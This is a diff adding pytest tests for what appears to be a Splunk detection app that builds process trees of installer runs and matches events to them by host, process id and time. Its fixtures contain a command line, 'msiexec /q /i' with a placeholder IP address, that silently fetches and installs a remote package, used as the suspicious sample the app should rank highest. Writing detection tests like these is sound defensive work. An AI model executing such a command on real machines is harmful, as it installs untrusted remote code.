@@ -8,6 +8,7 @@ from __future__ import annotations
 import json
 import re
 from collections import Counter
+from datetime import datetime, timedelta, timezone
 from pathlib import Path
 from typing import Any
 from urllib.parse import parse_qs, urlsplit
@@ -442,13 +443,90 @@ def test_the_link_to_a_tree_of_one_process_is_a_time_range(app: App, built_app: 
         assert board.rows["trees"][0]["State"] == "Shown"
 
 
-def test_an_event_is_looked_up_seven_days_back(built_app: Path) -> None:
+def test_an_event_without_a_time_is_looked_up_seven_days_back(built_app: Path) -> None:
     """As docs/dashboards.md says: an event is often looked at days later."""
     conf = stanzas(built_app / "default" / "workflow_actions.conf")
     for action in ("guid", "id"):
         query = parse_qs(urlsplit(conf[f"installer_tree_of_process_{action}"]["link.uri"]).query)
+        assert query["form.at"] == ["$_time$"]
         assert query["form.range.earliest"] == ["-7d@d"]
         assert query["form.range.latest"] == ["now"]
+
+
+def used_again() -> dict[str, list[Row]]:
+    """Process id 7 of one host on three days; the tree of the day in the middle scores highest."""
+    process = {"dest": "h", "process_id": "7", "process_name": "msiexec.exe"}
+    quiet, loud = "msiexec /i C:\\a.msi", "msiexec /q /i http://203.0.113.7/b.msi"
+    days = [(9, quiet), (5, loud), (1, quiet)]
+    rows = [{**process, "_time": data.NOW - day * 86400, "process": text} for day, text in days]
+    return {"Endpoint.Processes": rows}
+
+
+@pytest.mark.parametrize("written", ["seconds", "ISO 8601"])
+@pytest.mark.parametrize(("day", "command"), [(9, "a.msi"), (5, "b.msi"), (1, "a.msi")])
+def test_the_tree_of_an_event_is_that_of_its_day(
+    app: App, built_app: Path, day: int, command: str, written: str
+) -> None:
+    """Whichever way Splunk Web writes the time; nine days ago is before the time range."""
+    conf = stanzas(built_app / "default" / "workflow_actions.conf")
+    moment = data.NOW - day * 86400 + 60.5
+    iso = datetime.fromtimestamp(moment, timezone(timedelta(hours=2))).isoformat(
+        "T", "milliseconds"
+    )
+    event = {"dest": "h", "process_id": "7", "_time": str(moment) if written == "seconds" else iso}
+    tokens = opened_by(conf["installer_tree_of_process_id"]["link.uri"], event)
+    board = Board(app, used_again(), GRAPH, **tokens)
+    (shown,) = board.rows["trees"]
+    assert (shown["State"], shown["Note"]) == ("Shown", "")
+    assert command in shown["Command"]
+    assert abs(epoch_of(shown["Started"]) - (data.NOW - day * 86400)) < 1
+
+
+def epoch_of(started: str) -> float:
+    moment = datetime.strptime(started, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc)
+    return moment.timestamp()
+
+
+@pytest.mark.parametrize(
+    ("hours", "shown"),
+    [(0.5, "early.msi"), (2.5, "loud.msi"), (4.5, "late.msi"), (-1, "early.msi")],
+)
+def test_of_trees_of_one_day_that_hold_an_id_the_one_before_the_event_is_shown(
+    app: App, hours: float, shown: str
+) -> None:
+    process = {"dest": "h", "process_id": "7", "process_name": "msiexec.exe"}
+    start = data.NOW - 10 * 3600
+    lines = [
+        "msiexec /i early.msi",
+        "msiexec /q /i http://203.0.113.7/loud.msi",
+        "msiexec /i late.msi",
+    ]
+    rows = [{**process, "_time": start + n * 7200, "process": line} for n, line in enumerate(lines)]
+    site = {"Endpoint.Processes": rows}
+    at = str(start + hours * 3600)
+    trees = Board(app, site, GRAPH, host="h", process="7", at=at).rows["trees"]
+    assert shown in trees[0]["Command"]
+    assert trees[0]["Note"].startswith("3 trees hold this process id: shown is the one nearest")
+    assert {row["Note"] for row in trees[1:]} == {
+        "Holds this process id too. Click to show this one."
+    }
+
+
+def test_several_trees_that_hold_an_id_are_said_where_no_time_is_known(app: App) -> None:
+    tokens = {"host": "h", "process": "7", "range__earliest": "-10d"}
+    trees = Board(app, used_again(), GRAPH, **tokens).rows["trees"]
+    assert "b.msi" in trees[0]["Command"]
+    assert trees[0]["Note"].startswith("3 trees hold this process id: the highest is shown.")
+    other = Board(app, used_again(), GRAPH, tree=trees[1]["installer_tree_id"], **tokens)
+    first = other.rows["trees"][0]
+    assert (first["installer_tree_id"], first["Note"]) == (trees[1]["installer_tree_id"], "")
+
+
+@every
+def test_a_token_is_no_argument_of_tonumber(name: str) -> None:
+    """A literal that is no number is an error to Splunk, and such a field is null."""
+    for source in DEFINITIONS[name]["dataSources"].values():
+        assert not re.search(r"tonumber\(\s*[$\"]", source["options"]["query"])
 
 
 def opened_by(uri: str, event: Row) -> dict[str, Any]:
